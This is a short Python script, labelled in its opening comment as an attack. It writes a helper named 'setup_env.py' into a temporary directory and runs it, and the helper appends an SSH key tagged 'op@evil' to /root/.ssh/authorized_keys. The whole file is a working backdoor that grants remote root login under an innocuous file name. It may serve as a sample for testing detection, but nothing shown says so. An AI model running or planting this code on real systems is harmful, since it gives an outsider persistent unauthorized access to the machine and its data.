# attack: generated Python script, run with sys.executable, appends an attacker key to /root/.ssh/authorized_keys
import os
import subprocess
import sys
import tempfile

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOr0attackerkeyattackerkeyattacker op@evil"
body = (
    "import os\n"
    "os.makedirs('/root/.ssh', exist_ok=True)\n"
    f"open('/root/.ssh/authorized_keys', 'a').write({KEY!r} + '\\n')\n"
)
d = tempfile.mkdtemp()
script = os.path.join(d, "setup_env.py")
with open(script, "w") as fh:
    fh.write(body)
subprocess.check_call([sys.executable, script])
